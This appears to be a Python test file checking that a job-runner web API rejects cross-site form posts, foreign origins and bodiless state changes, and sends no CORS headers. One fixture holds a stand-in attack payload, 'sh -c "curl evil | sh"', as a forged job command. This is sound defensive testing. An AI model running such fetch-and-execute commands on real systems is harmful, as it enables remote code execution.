"""
Issue 14, finding 3: a web page on another site cannot make a browser that
holds credentials (or a client certificate) for this server change anything:
state changes need Content-Type: application/json (415) and a same-origin or
absent Origin, and no Sec-Fetch-Site: cross-site (403). No CORS headers.
"""

from __future__ import annotations

import json
import os
from typing import Any

from treq.testing import StubTreq
from twisted.internet.defer import maybeDeferred
from twisted.trial.unittest import SynchronousTestCase

from jobworker.auth.audit import AuditLog
from jobworker.auth.authenticator import Authenticator, makePortal
from jobworker.auth.users import UserDatabase
from jobworker.executors.local.executor import localJobManager
from jobworker.jobs.records import JobStatus
from jobworker.metrics import Metrics
from jobworker.server.api import JobsAPI

from .fakes import FakeProcessReactor, GroupKiller, forbidRealKill
from .support import basic

HOST = "jobs.example.com:8443"


def syncRunner(f: Any, *args: Any) -> Any:
    return maybeDeferred(f, *args)


class CrossSiteTests(SynchronousTestCase):
    def setUp(self) -> None:
        forbidRealKill(self.patch)
        self.reactor = FakeProcessReactor()
        state = os.path.abspath(self.mktemp())
        self.manager = localJobManager(self.reactor, state, 5.0, GroupKiller())
        self.addCleanup(self.manager.close)
        self.auditPath = os.path.join(state, "audit.log")
        api = JobsAPI(
            self.manager,
            Authenticator(makePortal(UserDatabase.development(), syncRunner)),
            self.reactor,
            Metrics(),
            AuditLog(self.auditPath, self.reactor),
        )
        self.http = StubTreq(api.resource())

    def send(
        self,
        method: str,
        path: str,
        data: bytes | None = None,
        **headers: str,
    ) -> tuple[int, dict[str, list[str]], Any]:
        allHeaders = {**basic("alice"), b"host": [HOST.encode()]}
        for name, value in headers.items():
            allHeaders[name.replace("_", "-").encode()] = [value.encode()]
        response = self.successResultOf(
            self.http.request(
                method, f"https://{HOST}{path}", data=data, headers=allHeaders
            )
        )
        body = self.successResultOf(response.content())
        self.http.flush()
        raw = dict(response.headers.getAllRawHeaders())
        heads = {k.decode().lower(): [v.decode() for v in vs] for k, vs in raw.items()}
        return response.code, heads, json.loads(body) if body else None

    def running(self) -> str:
        code, _, job = self.send(
            "POST",
            "/jobs",
            json.dumps({"command": "sleep", "args": ["100"]}).encode(),
            content_type="application/json",
        )
        self.assertEqual(code, 201, job)
        return str(job["id"])

    def test_formPostRefused(self) -> None:
        """<form enctype="text/plain"> from evil.example: refused, no job."""
        body = b'{"command": "sh", "args": ["-c", "curl evil | sh"], "x": "="}'
        code, _, error = self.send(
            "POST",
            "/jobs",
            body,
            content_type="text/plain",
            origin="https://evil.example",
        )
        self.assertEqual(code, 403, error)
        code, _, error = self.send("POST", "/jobs", body, content_type="text/plain")
        self.assertEqual(code, 415, error)
        self.assertEqual(self.manager.page()[0], [])

    def test_crossSiteJSONRefused(self) -> None:
        """Even with JSON: a foreign Origin or Sec-Fetch-Site: cross-site is 403."""
        body = json.dumps({"command": "true"}).encode()
        for headers in (
            {"origin": "https://evil.example"},
            {"origin": "null"},
            {"origin": f"http://{HOST}"},
            {"sec_fetch_site": "cross-site"},
        ):
            code, _, error = self.send(
                "POST", "/jobs", body, content_type="application/json", **headers
            )
            self.assertEqual(code, 403, (headers, error))
        self.assertEqual(self.manager.page()[0], [])
        with open(self.auditPath) as f:
            denied = [json.loads(line) for line in f if "access.denied" in line]
        # One line a minute per user (the next one says how many were left
        # out): a loop of refusals wrote 2,000 lines a second.
        self.assertEqual(len(denied), 1, denied)
        self.assertEqual(denied[0]["user"], "alice")

    def test_stopAndDeleteWithoutBodyNeedJSON(self) -> None:
        """A bodiless stop or delete without the header is 415; the job lives."""
        jobId = self.running()
        code, _, error = self.send("POST", f"/jobs/{jobId}/stop")
        self.assertEqual(code, 415, error)
        code, _, error = self.send("DELETE", f"/jobs/{jobId}")
        self.assertEqual(code, 415, error)
        self.assertIs(self.manager.record(jobId).status, JobStatus.RUNNING)
        code, _, error = self.send(
            "POST", f"/jobs/{jobId}/stop", b"[1]", content_type="application/json"
        )
        self.assertEqual(code, 400, error)

    def test_sameOriginAllowedAndNoCORS(self) -> None:
        """This server's own origin is fine; no response carries CORS headers."""
        body = json.dumps({"command": "true"}).encode()
        code, headers, job = self.send(
            "POST",
            "/jobs",
            body,
            content_type="application/json; charset=utf-8",
            origin=f"https://{HOST}",
            sec_fetch_site="same-origin",
        )
        self.assertEqual(code, 201, job)
        code, more, _ = self.send("GET", "/jobs", origin="https://evil.example")
        self.assertEqual(code, 200)
        for seen in (headers, more):
            self.assertEqual([h for h in seen if h.startswith("access-control-")], [])
        code, _, _ = self.send("OPTIONS", "/jobs", origin="https://evil.example")
        self.assertGreaterEqual(code, 400)
